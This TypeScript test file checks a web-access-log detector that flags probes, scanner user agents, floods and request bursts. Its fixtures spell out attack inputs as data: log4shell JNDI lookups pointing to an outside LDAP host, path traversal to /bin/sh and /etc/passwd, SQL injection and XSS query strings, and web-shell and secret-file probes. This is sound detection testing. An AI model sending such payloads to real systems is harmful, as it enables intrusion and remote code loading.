import { describe, expect, it } from 'vitest';

import type { Hit } from '../../src/core/types.ts';
import { loadRules } from '../../src/detect/load-rules.ts';
import { detectActor, MAX_EVIDENCE_IDS } from '../../src/detect/detect-actor.ts';
import { hit } from './make-hit.ts';

const rules = loadRules();
const fired = (hits: Hit[]) => detectActor(hits, rules).map((s) => s.ruleId).sort();
const many = (n: number, f: (i: number) => Partial<Hit> & { sec?: number }) => Array.from({ length: n }, (_, i) => hit(f(i)));

describe('detectActor — one signature per table row', () => {
  it.each<[string, Hit[], string[]]>([
    ['phpunit eval-stdin', [hit({ target: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', status: 404 })], ['exploit-path']],
    ['cgi-bin traversal, double-encoded', [hit({ target: '/cgi-bin/%252e%252e/%252e%252e/bin/sh', status: 400 })], ['bad-request', 'exploit-path', 'traversal-probe']],
    ['web shell', [hit({ target: '/uploads/c99shell.php', status: 404 })], ['webshell-probe']],
    ['one admin panel 404', [hit({ target: '/wp-login.php', status: 404 })], ['admin-panel-probe']],
    ['admin panel that exists', [hit({ target: '/wp-login.php', status: 200 })], []],
    ['two admin panels', [hit({ target: '/wp-login.php', status: 404 }), hit({ target: '/administrator/', status: 404, sec: 5 })], ['admin-panel-probe', 'admin-panel-sweep']],
    ['.env', [hit({ target: '/.env', status: 404 })], ['secret-file-probe']],
    ['.git/config answered 200', [hit({ target: '/.git/config', status: 200 })], ['secret-file-probe']],
    ['config.xml is not a secret', [hit({ target: '/projects/x/config.xml', status: 404 })], []],
    ['empty user agent', [hit({ ua: '' })], ['empty-user-agent']],
    ['no request line (408) has no UA but is not counted', [hit({ ua: '', method: '', target: '', status: 408, tag: 'no-request' })], []],
    ['scanner UA', [hit({ ua: 'sqlmap/1.7 (https://sqlmap.org)' })], ['scanner-user-agent']],
    ['curl is not a scanner', [hit({ ua: 'curl/8.5.0' })], []],
    ['bare Mozilla/5.0 is a placeholder', [hit({ ua: 'Mozilla/5.0' })], ['short-user-agent']],
    ['log4shell obfuscated in the referer', [hit({ referer: '${${lower:j}${upper:n}${lower:d}${upper:i}:ldap://198.51.100.9/a}' })], ['log4shell']],
    ['log4shell as the whole (non-HTTP) request line', [hit({ method: '', target: '', status: 400, tag: 'malformed-request', raw: '${jndi:ldap://198.51.100.9/a}', ua: '' })], ['bad-request', 'empty-user-agent', 'log4shell']],
    ['TRACE', [hit({ method: 'TRACE', status: 405 })], ['unusual-method']],
    ['CONNECT', [hit({ method: 'CONNECT', target: '198.51.100.9:443', status: 400 })], ['bad-request', 'unusual-method']],
    ['xmlrpc POSTed 10 times', many(10, (i) => ({ method: 'POST', target: '/xmlrpc.php', status: 200, sec: i })), ['xmlrpc-flood']],
    ['WordPress users listed through the REST API', [hit({ target: '/wp-json/wp/v2/users', status: 200 })], ['wp-user-enum']],
    ['three POSTs where no form exists', many(3, (i) => ({ method: 'POST', target: `/form${i}.php`, status: 404, sec: i })), ['post-to-missing']],
    ['referer is a bare address on a probe', [hit({ target: '/.env', status: 404, referer: 'http://198.51.100.9/' })], ['foreign-referer', 'secret-file-probe']],
    ['log4shell in UA', [hit({ ua: '${jndi:ldap://198.51.100.9/a}' })], ['log4shell']],
    ['log4shell encoded in query', [hit({ target: '/?q=%24%7Bjndi:dns://x%7D' })], ['log4shell']],
    ['sqli in query', [hit({ target: '/p?id=1+union+select+1,2' })], ['sqli-probe']],
    ['xss in query', [hit({ target: '/s?q=%3Cscript%3Ealert(1)%3C/script%3E' })], ['xss-probe']],
    ['traversal to /etc/passwd', [hit({ target: '/dl?f=../../../etc/passwd', status: 404 })], ['traversal-probe', 'traversal-system-file']],
    ['TLS bytes', [hit({ method: '', target: '', status: 400, tag: 'tls-handshake', ua: 'x' })], ['bad-request', 'protocol-probe']],
    ['PROPFIND', [hit({ method: 'PROPFIND' })], ['unusual-method']],
    ['author enumeration', [hit({ target: '/?author=2', status: 301 })], ['wp-user-enum']],
    ['xmlrpc missing', [hit({ target: '/xmlrpc.php', status: 404 })], ['xmlrpc-probe']],
    ['ordinary page', [hit({ target: '/blog/post.html' })], []],
  ])('%s', (_name, hits, want) => {
    expect(fired(hits)).toEqual(want);
  });
});

describe('detectActor — aggregates', () => {
  it.each<[string, Hit[], string[]]>([
    ['9 of 10 missing', many(10, (i) => ({ target: `/m${i}`, status: i < 9 ? 404 : 200, sec: i * 60 })), ['not-found-ratio', 'not-found-ratio-high']],
    ['6 of 10 missing', many(10, (i) => ({ target: `/m${i}`, status: i < 6 ? 404 : 200, sec: i * 60 })), ['not-found-ratio']],
    ['9 requests all missing (below minRequests)', many(9, (i) => ({ target: `/m${i}`, status: 404, sec: i * 60 })), []],
    ['favicon misses do not count', [...many(8, (i) => ({ target: '/favicon.ico', status: 404, sec: i })), ...many(10, (i) => ({ target: `/p${i}`, sec: 100 + i * 60 }))], []],
    ['30 pages in 10 s', many(30, (i) => ({ target: `/p${i}`, sec: i / 3 })), ['request-burst']],
    ['29 pages in 10 s', many(29, (i) => ({ target: `/p${i}`, sec: i / 3 })), []],
    ['40 images in 2 s (a browser)', many(40, (i) => ({ target: `/img/${i}.png`, sec: i / 20 })), []],
    ['302 then 404 on one path', [hit({ target: '/phpmyadmin', status: 302 }), hit({ target: '/phpmyadmin/', status: 404, sec: 2 })], ['admin-panel-probe', 'redirect-then-404']],
    ['302 then 404 an hour apart', [hit({ target: '/shop', status: 302 }), hit({ target: '/shop', status: 404, sec: 3601 })], []],
    ['10 xmlrpc POSTs', many(10, (i) => ({ target: '/xmlrpc.php', method: 'POST', sec: i })), ['xmlrpc-flood']],
  ])('%s', (_name, hits, want) => {
    expect(fired(hits)).toEqual(want);
  });

  it('keeps evidence ids capped, the full count, and first/last times', () => {
    const hits = many(80, (i) => ({ target: `/m${i}`, status: 404, sec: i * 60 }));
    const sig = detectActor(hits, rules).find((s) => s.ruleId === 'not-found-ratio-high')!;
    expect(sig.count).toBe(80);
    expect(sig.requestIds).toHaveLength(MAX_EVIDENCE_IDS);
    expect(sig.requestIds[0]).toBe(hits[0]!.id);
    expect(sig.firstTs).toBe(hits[0]!.ts);
    expect(sig.lastTs).toBe(hits[79]!.ts);
  });

  it('sorts unsorted input before windows are measured', () => {
    const hits = many(30, (i) => ({ target: `/p${i}`, sec: (29 - i) / 3 }));
    expect(fired(hits)).toContain('request-burst');
  });

  it('a burst names exactly the requests of its window', () => {
    const hits = [hit({ target: '/early', sec: 0 }), ...many(30, (i) => ({ target: `/p${i}`, sec: 100 + i / 4 }))];
    const sig = detectActor(hits, rules).find((s) => s.ruleId === 'request-burst')!;
    expect(sig.count).toBe(30);
    expect(sig.requestIds).not.toContain(hits[0]!.id);
  });
});
